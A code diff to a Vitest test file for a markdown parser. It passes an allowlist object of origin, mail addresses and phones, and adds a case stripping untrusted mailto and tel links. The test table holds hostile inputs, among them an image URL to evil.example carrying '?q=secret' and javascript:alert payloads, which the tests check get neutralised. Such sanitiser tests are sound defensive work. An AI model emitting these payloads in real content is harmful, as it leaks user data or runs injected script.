@@ -1,8 +1,8 @@
 import { describe, expect, test } from "vitest";
 import { parseMarkdown, plainText } from "./parse-markdown.ts";
 
-const origin = "https://site.example";
-const parse = (text: string) => parseMarkdown(text, origin);
+const reach = { origin: "https://site.example", mails: ["a@b.example"], phones: [] };
+const parse = (text: string) => parseMarkdown(text, reach);
 const line = (text: string) => {
   const [block] = parse(text).blocks;
   return block?.type === "paragraph" ? block.children : block;
@@ -78,6 +78,7 @@ describe("inside a line", () => {
     ["![](https://evil.example/?q=secret) x", [" x"]],
     ["[![a](https://evil.example/a.png)](https://evil.example)", ["[a](https://evil.example)"]],
     ["[here](https://evil.example)", ["here"]],
+    ["[here](mailto:a@evil.example) or <tel:900123>", ["here or 900123"]],
     ["[here](javascript:alert(1))", ["[here](javascript:alert(1))"]],
     ["[here](javascript:alert`1`)", ["here"]],
     ["[here](//evil.example)", ["here"]],
